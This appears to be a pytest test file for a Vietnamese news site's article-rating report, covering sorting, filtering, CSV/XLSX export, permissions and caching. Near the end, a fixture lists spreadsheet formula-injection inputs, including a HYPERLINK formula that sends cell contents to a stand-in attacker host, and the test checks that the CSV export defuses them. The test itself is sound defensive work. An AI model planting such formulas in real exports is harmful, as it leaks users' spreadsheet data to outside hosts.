import csv
import io
import json
import re
import time

import pytest

from django.core.cache import cache
from django.test import Client
from django.urls import reverse

from news.models import ArticlePage, ArticleRating, ArticleRatingSummary

from .factories import ArticlePageFactory, SectionPageFactory


@pytest.fixture(autouse=True)
def _clear_rate_limit():
    cache.clear()


def cast(page, *scores):
    for score in scores:
        response = Client().post(f"/danh-gia/{page.pk}/", json.dumps({"score": score}), content_type="application/json")
        assert response.status_code == 200


@pytest.fixture
def rated(home):
    news = SectionPageFactory(parent=home, title="Tin tức")
    local = SectionPageFactory(parent=home, title="Tin địa phương")
    loved = ArticlePageFactory(
        parent=news, title="Bài được yêu thích", provinces=["Long An"], date="2018-08-27T09:00+07:00"
    )
    mixed = ArticlePageFactory(parent=local, title="Bài ý kiến trái chiều", provinces=["Lạng Sơn"])
    ArticlePageFactory(parent=local, title="Bài chưa ai đánh giá")
    cast(loved, 5, 5, 5, 4, 5, 5)
    cast(mixed, 1, 5, 3, 2, 4)
    return {"news": news, "local": local, "loved": loved, "mixed": mixed}


def test_report_lists_rated_articles_sorted_by_votes(admin_client, rated):
    response = admin_client.get(reverse("news_ratings_report"))
    assert response.status_code == 200
    text = response.content.decode()
    assert "Bài được yêu thích" in text and "Bài ý kiến trái chiều" in text
    assert "Bài chưa ai đánh giá" not in text
    assert text.index("Bài được yêu thích") < text.index("Bài ý kiến trái chiều")
    ascending = admin_client.get(reverse("news_ratings_report"), {"ordering": "rating_summary__count"}).content.decode()
    assert ascending.index("Bài ý kiến trái chiều") < ascending.index("Bài được yêu thích")


def test_report_filters_by_section_and_by_current_province(admin_client, rated):
    by_section = admin_client.get(reverse("news_ratings_report"), {"section": rated["local"].pk}).content.decode()
    assert "Bài ý kiến trái chiều" in by_section and "Bài được yêu thích" not in by_section
    tay_ninh = rated["loved"].provinces.get().merged_into  # Long An is now part of Tây Ninh
    by_province = admin_client.get(reverse("news_ratings_report"), {"province": tay_ninh.pk}).content.decode()
    assert "Bài được yêu thích" in by_province and "Bài ý kiến trái chiều" not in by_province


def test_report_exports_csv_with_exact_figures(admin_client, rated):
    response = admin_client.get(reverse("news_ratings_report"), {"export": "csv"})
    assert (response.status_code, response["Content-Type"]) == (200, "text/csv; charset=utf-8")
    body = response.getvalue()
    assert body.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel on Windows needs to read UTF-8
    rows = body.decode("utf-8-sig").strip().splitlines()
    assert rows[0] == "Bài viết,Ngày đăng,Lượt đánh giá,Điểm trung bình,1★,2★,3★,4★,5★"
    assert rows[1] == 'Bài được yêu thích,27/08/2018,6,"4,83",0,0,0,1,5'
    assert rows[2].startswith("Bài ý kiến trái chiều,") and rows[2].endswith(',5,"3,00",1,1,1,1,1')


def test_report_exports_xlsx(admin_client, rated):
    response = admin_client.get(reverse("news_ratings_report"), {"export": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.getvalue()[:2] == b"PK"


def test_report_needs_the_view_permission(client, django_user_model, rated):
    editor = django_user_model.objects.create_user("phongvien", password="x")
    from django.contrib.auth.models import Permission

    editor.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(editor)
    response = client.get(reverse("news_ratings_report"))
    assert response.status_code == 302
    assert response["Location"] == "/admin/"


def test_removing_an_abusive_vote_through_the_admin_updates_the_summary(admin_client, rated):
    abusive = ArticleRating.objects.filter(page=rated["mixed"], score=1).get()
    delete_url = reverse("wagtailsnippets_news_articlerating:delete", args=[abusive.pk])
    assert admin_client.post(delete_url).status_code == 302
    summary = ArticleRatingSummary.objects.get(page=rated["mixed"])
    assert (summary.count, summary.total, summary.average) == (4, 14, 3.5)
    assert summary.distribution == {"1": 0, "2": 1, "3": 1, "4": 1, "5": 1}


def test_home_shows_top_rated_articles_with_at_least_five_votes(client, rated):
    few_votes = ArticlePageFactory(parent=rated["news"], title="Chỉ có bốn phiếu")
    cast(few_votes, 5, 5, 5, 5)
    response = client.get("/")
    assert [page.title for page in response.context["top_rated_articles"]] == [
        "Bài được yêu thích",
        "Bài ý kiến trái chiều",
    ]
    text = response.content.decode()
    assert "Đánh giá cao" in text
    assert "4,8/5 · 6 lượt đánh giá" in text


def top_rated_titles(client):
    return [page.title for page in client.get("/").context["top_rated_articles"]]


def test_top_rated_is_renewed_every_five_minutes_and_at_once_when_an_article_goes(client, rated, monkeypatch):
    assert top_rated_titles(client) == ["Bài được yêu thích", "Bài ý kiến trái chiều"]
    cache.clear()  # the rate limit: one address casts every vote here
    cast(rated["mixed"], 5, 5, 5, 5, 5, 5, 5, 5)  # 55 / 13 = 4.2
    cast(rated["loved"], 1, 1, 1, 1, 1, 1)  # 35 / 12 = 2.9
    assert top_rated_titles(client) == ["Bài được yêu thích", "Bài ý kiến trái chiều"]  # remembered
    later = time.monotonic() + 301
    monkeypatch.setattr(time, "monotonic", lambda: later)
    assert top_rated_titles(client) == ["Bài ý kiến trái chiều", "Bài được yêu thích"]
    ArticlePage.objects.get(pk=rated["mixed"].pk).unpublish()  # renews the site furniture
    assert top_rated_titles(client) == ["Bài được yêu thích"]


FORMULA_TITLES = {
    '=HYPERLINK("http://attacker.example/?"&A1,"Xem")': '\'=HYPERLINK("http://attacker.example/?"&A1,"Xem")',
    "+84 tỉnh": "'+84 tỉnh",
    "-1 điểm": "'-1 điểm",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\tTab đầu dòng": "'\tTab đầu dòng",
    "\rCR đầu dòng": "'\rCR đầu dòng",
    "Tin thường = an toàn": "Tin thường = an toàn",
}


def test_csv_export_turns_formula_looking_cells_into_text(admin_client, section):
    for number, title in enumerate(FORMULA_TITLES, start=1):
        page = ArticlePageFactory(parent=section, title=title, slug=f"bai-{number}")
        ArticleRatingSummary.objects.create(page=page, count=1, total=5, score_5=1)
    response = admin_client.get(reverse("news_ratings_report"), {"export": "csv"})
    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"), newline="")))
    assert sorted(row[0] for row in rows[1:]) == sorted(FORMULA_TITLES.values())
    assert {row[2] for row in rows[1:]} == {"1"}  # numbers stay numbers


def test_report_dates_are_the_portal_s_local_days(admin_client, home):
    # 23:30 in Hồ Chí Minh City is 16:30 UTC the same day, 00:30 is 17:30 UTC the day before.
    section = SectionPageFactory(parent=home)
    cast(ArticlePageFactory(parent=section, title="Bài đêm", date="2026-03-08T23:30+07:00"), 4)
    cast(ArticlePageFactory(parent=section, title="Bài rạng sáng", date="2026-03-10T00:30+07:00"), 4, 5)
    html = admin_client.get(reverse("news_ratings_report")).content.decode()
    dates = re.findall(r"<td[^>]*>\s*(\d\d/\d\d/\d{4})\s*</td>", html)
    assert dates == ["10/03/2026", "08/03/2026"]
